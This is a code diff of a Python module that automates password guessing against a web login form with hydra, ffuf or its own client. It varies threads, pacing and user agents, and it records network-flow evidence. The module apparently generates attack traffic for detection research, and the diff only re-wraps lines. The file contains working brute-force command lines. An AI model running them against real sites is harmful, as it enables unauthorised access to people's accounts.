@@ -1,7 +1,8 @@
 # SPDX-License-Identifier: GPL-3.0-or-later
 """Password guessing at a web form: hydra, ffuf, or an own client over the login page of the sites' application.
 
-Varied per session: the tool, tries at once and their rate, one or several tries per connection, user agents, whether the form
+Varied per session: the tool, tries at once and their rate, one or several tries per connection, user agents, whether the
+form
 is fetched before each try, TLS as the client's style has it."""
 import contextlib
 import urllib.parse
@@ -26,18 +27,22 @@ def _hydra(me):
         form = f"/login:user=^USER^&password=^PASS^:{first}H=User-Agent\\: {agent}:F=failed"
         with me.talk(service):
             me.run(["hydra", "-I", "-q", "-t", tasks, "-L", words.write(me, "users", users), "-P",
-                    words.write(me, "passwords", passwords), "-s", service.port, me.address(service, False), module, form], timeout=40)
+                    words.write(me, "passwords", passwords), "-s", service.port, me.address(service, False), module, form],
+                   timeout=40)
     return guess
 
 
 def _ffuf(me):
-    tasks, pause, agent = me.rng.choice((1, 2, 4, 8)), me.rng.choice(("0.1", "0.1-0.6", "0.3-1.5", "1.0")), clients.agent(me.rng)
+    tasks, pause, agent = me.rng.choice((1, 2, 4, 8)), me.rng.choice(("0.1", "0.1-0.6", "0.3-1.5",
+                                                                      "1.0")), clients.agent(me.rng)
 
     def guess(service, users, passwords):
         with me.talk(service):
-            me.run(["ffuf", "-s", "-t", tasks, "-p", pause, "-X", "POST", "-H", "Content-Type: application/x-www-form-urlencoded",
+            me.run(["ffuf", "-s", "-t", tasks, "-p", pause, "-X", "POST", "-H",
+                    "Content-Type: application/x-www-form-urlencoded",
                     "-H", f"User-Agent: {agent}", "-w", words.write(me, "users", users) + ":NAME", "-w",
-                    words.write(me, "passwords", passwords) + ":WORD", "-d", "user=NAME&password=WORD", "-fr", "failed", "-u",
+                    words.write(me, "passwords", passwords) + ":WORD", "-d", "user=NAME&password=WORD", "-fr", "failed",
+                    "-u",
                     clients.url(me, service, "/login", named=False)], timeout=40)
     return guess
 
@@ -70,5 +75,6 @@ def guess_http_form(me):
 
 
 EVIDENCE = {
-    "guess_http_form": ("with an answered form", lambda flow: flow.protocol == 6 and flow.bytes[0] > 300 and flow.bytes[1] > 400, 12),
+    "guess_http_form": ("with an answered form", lambda flow: flow.protocol == 6 and flow.bytes[0] > 300
+                        and flow.bytes[1] > 400, 12),
 }
